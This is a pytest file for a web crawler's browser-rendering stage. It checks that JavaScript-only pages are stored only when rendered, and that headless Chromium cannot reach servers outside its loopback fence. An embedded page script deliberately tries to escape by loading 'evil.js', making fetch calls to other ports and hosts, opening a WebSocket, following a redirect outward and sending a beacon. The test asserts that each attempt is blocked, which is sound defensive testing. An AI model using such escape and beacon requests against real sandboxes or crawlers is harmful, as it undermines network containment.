"""Fault rows of issue 15, rendering (``render: browser``): a JavaScript-only page is stored
only when rendered, and the browser stays inside the crawl's fence (real Chromium, loopback
servers only).

Needs Debian's Chromium (``make install`` / ``.ci/run`` install it); skipped without it only
outside CI. Every server here listens on 127.0.0.1, and every request the pages attempt
targets 127.0.0.1 or [::1]: nothing in this file can send a packet off the machine.
"""

from __future__ import annotations

import copy
import os
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any

import pytest
import yaml
from sqlalchemy import create_engine, select
from sqlalchemy.orm import Session

from pipeline.db.models import Article, CrawlRun, Fetch
from pipeline.demo_site import clientside
from pipeline.netpolicy import openings_for
from pipeline.rawstore import read_response
from pipeline.rendering import chromium_path
from pipeline.stages.crawl import crawl
from pipeline.stages.extract import extract
from pipeline.stages.load import load
from tests.loopback import serving

pytestmark = pytest.mark.skipif(
    not Path(chromium_path()).exists() and os.environ.get("CI") != "true",
    reason="Chromium is not installed (make install installs it); required in CI",
)


def run(key: str, run_id: str, sources: Path, db_url: str) -> None:
    crawled = crawl(key, run_id, sources_path=sources, database_url=db_url)
    assert crawled.status == "succeeded", crawled
    extract(run_id, workers=0, database_url=db_url, sources_path=sources)
    load(run_id, database_url=db_url)


def stored(db_url: str) -> list[Article]:
    engine = create_engine(db_url)
    with Session(engine) as session:
        rows = list(session.scalars(select(Article)))
    engine.dispose()
    return rows


def fetches(db_url: str, run_id: str) -> list[Fetch]:
    engine = create_engine(db_url)
    with Session(engine) as session:
        run_pk = session.scalars(select(CrawlRun.id).where(CrawlRun.run_id == run_id)).one()
        rows = list(session.scalars(select(Fetch).where(Fetch.run_id == run_pk)))
    engine.dispose()
    return rows


def crawl_stats(db_url: str, run_id: str) -> dict[str, Any]:
    engine = create_engine(db_url)
    with Session(engine) as session:
        run_row = session.scalars(select(CrawlRun).where(CrawlRun.run_id == run_id)).one()
        stats = dict((run_row.stats or {}).get("crawl", {}))
    engine.dispose()
    return stats


def test_a_javascript_only_demo_page_is_stored_only_when_rendered(
    demo_network: Any, sqlite_url: str, tmp_path: Path
) -> None:
    outlet = demo_network.outlets[0]
    plain = next(s for s in demo_network.sources() if s["key"] == outlet.key)
    plain.update(
        discovery={"seeds": [outlet.url(clientside.SHELL_PATH)]},
        article_urls={"allow": [r"/app/\d{4}/\d{2}/\d{2}/[a-z-]+$"]},
        related={"depth": 0},
    )
    rendered = {**copy.deepcopy(plain), "key": f"{outlet.key}-rendered", "render": "browser"}
    sources = tmp_path / "sources.yaml"
    sources.write_text(yaml.safe_dump({"version": 1, "sources": [plain, rendered]}))

    run(plain["key"], "plain-1", sources, sqlite_url)
    assert stored(sqlite_url) == []  # the HTML has no body, nor any JSON with one

    run(rendered["key"], "rendered-1", sources, sqlite_url)
    (article,) = stored(sqlite_url)
    assert article.url == outlet.url(clientside.SHELL_PATH)
    assert article.title == clientside.TITLE
    paragraphs = article.text.split("\n\n")
    assert [p for p in paragraphs if p in clientside.PARAGRAPHS] == list(clientside.PARAGRAPHS)
    assert clientside.AUTHOR in (article.authors or [])
    (page,) = [f for f in fetches(sqlite_url, "rendered-1") if f.url.endswith(clientside.SHELL_PATH)]
    assert (page.hints or {}).get("rendered") == "browser"
    served = [target for _outlet, _method, target, _status in demo_network.requests()]
    assert clientside.DATA_PATH in served  # the browser fetched the body by XHR


# The page's script tries every way out of the fence it can; each attempt writes its verdict
# into the DOM ("ok" when the request succeeded, "blocked" when it failed), so the rendered
# page the crawler stores says what the browser managed to do.
ATTEMPTS = """
<script src="{outside}/evil.js"></script>
<link rel="stylesheet" href="{outside}/evil.css"><link rel="preconnect" href="{outside}/">
<iframe src="{outside}/frame"></iframe>
<script>
function mark(name, value) {{
  var p = document.createElement('p'); p.id = name; p.textContent = name + ': ' + value;
  document.getElementById('results').appendChild(p);
}}
function attempt(name, url) {{
  fetch(url).then(function (r) {{ return r.text(); }})
    .then(function (t) {{ mark(name, t.indexOf('OUTSIDE') >= 0 ? 'LEAKED' : 'ok'); }})
    .catch(function () {{ mark(name, 'blocked'); }});
}}
attempt('own-data', '/data.json');
attempt('other-port', '{outside}/xhr');
attempt('other-name', '{outside_by_name}/xhr');
attempt('ipv6-loopback', 'http://[::1]:{outside_port}/xhr');
attempt('redirect-out', '/hop');
attempt('redirect-own', '/hop-own');
try {{ var ws = new WebSocket('ws://127.0.0.1:{outside_port}/ws');
       ws.onopen = function () {{ mark('websocket', 'LEAKED'); }};
       ws.onerror = function () {{ mark('websocket', 'blocked'); }}; }} catch (e) {{ mark('websocket', 'blocked'); }}
try {{ window.open('{outside}/popup'); }} catch (e) {{}}
navigator.sendBeacon && navigator.sendBeacon('{outside}/beacon', 'x');
</script>
"""


class Outside:
    """A loopback server the source may NOT reach; it records every request that arrives."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        self.lock = threading.Lock()

    def handler(self) -> type[BaseHTTPRequestHandler]:
        outside = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args: Any) -> None:
                pass

            def do_GET(self) -> None:
                with outside.lock:
                    outside.hits.append(self.path)
                body = b"OUTSIDE"
                self.send_response(200)
                self.send_header("Content-Type", "text/plain")
                self.send_header("Content-Length", str(len(body)))
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()
                self.wfile.write(body)

            do_POST = do_GET

        return Handler


def fenced_site(outside_port: int) -> type[BaseHTTPRequestHandler]:
    outside = f"http://127.0.0.1:{outside_port}"
    paragraphs = "".join(
        f"<p>Paragraph {i} of a story about the new harbour crane, long enough to be body text for "
        "the extractor and for the crawler's signals, with a full stop at the end.</p>"
        for i in range(6)
    )
    page = (
        "<!doctype html><html><head><title>Crane arrives</title><meta property='og:type' content='article'>"
        "</head><body><article><h1>Crane arrives</h1><time datetime='2024-05-01'>1 May</time>"
        f"{paragraphs}<div id='results'></div></article>"
        + ATTEMPTS.format(
            outside=outside, outside_by_name=f"http://localhost:{outside_port}", outside_port=outside_port
        )
        + "</body></html>"
    ).encode()

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, *args: Any) -> None:
            pass

        def do_GET(self) -> None:
            if self.path in ("/hop", "/hop-own"):
                self.send_response(302)
                self.send_header("Location", f"{outside}/redirected" if self.path == "/hop" else "/data.json")
                self.send_header("Content-Length", "0")
                self.end_headers()
                return
            body, ctype = page, "text/html; charset=utf-8"
            if self.path == "/data.json":
                body, ctype = b'{"own": true}', "application/json"
            elif self.path == "/robots.txt":
                body, ctype = b"User-agent: *\nAllow: /\n", "text/plain"
            self.send_response(200)
            self.send_header("Content-Type", ctype)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

    return Handler


@pytest.fixture
def outside() -> Iterator[tuple[Outside, int]]:
    server = Outside()
    with serving(server.handler()) as port:
        yield server, port


def test_the_browser_never_leaves_the_fence(
    outside: tuple[Outside, int], sqlite_url: str, tmp_path: Path
) -> None:
    recorder, outside_port = outside
    with serving(fenced_site(outside_port)) as port:
        base = f"http://127.0.0.1:{port}"
        story = f"{base}/2024/05/01/crane-arrives"
        source = {
            "key": "fenced",
            "name": "Fenced",
            "homepage": base + "/",
            "discovery": {"seeds": [story]},
            "article_urls": {"allow": [r"/\d{4}/\d{2}/\d{2}/"]},
            "related": {"depth": 0},
            "politeness": {"concurrency": 2, "delay": 0, "download_timeout": 15.0},
            "allow_private_networks": openings_for(base),
            "render": "browser",
        }
        sources = tmp_path / "sources.yaml"
        sources.write_text(yaml.safe_dump({"version": 1, "sources": [source]}))
        crawled = crawl("fenced", "fence-1", sources_path=sources, database_url=sqlite_url)
        assert crawled.status == "succeeded", crawled

    # The decision, seen from outside: not one request reached the forbidden server.
    assert recorder.hits == []
    # ... and from inside: the stored (rendered) page says what each attempt got.
    (page,) = [f for f in fetches(sqlite_url, "fence-1") if f.url == story]
    raw = read_response((page.warc_path or "", page.warc_offset or 0)).body.decode()
    assert "own-data: ok" in raw  # the page's own requests work, redirects within the fence too
    assert "redirect-own: ok" in raw
    for name in ("other-port", "other-name", "ipv6-loopback", "redirect-out"):
        assert f"{name}: blocked" in raw, name
    assert ": LEAKED" not in raw
    stats = crawl_stats(sqlite_url, "fence-1")
    assert stats.get("render_aborted", 0) >= 5, stats
    assert stats.get("render_offsite_blocked", 0) >= 5, stats
    assert stats.get("render_allowed", 0) >= 3, stats  # the page, its data, the own redirect
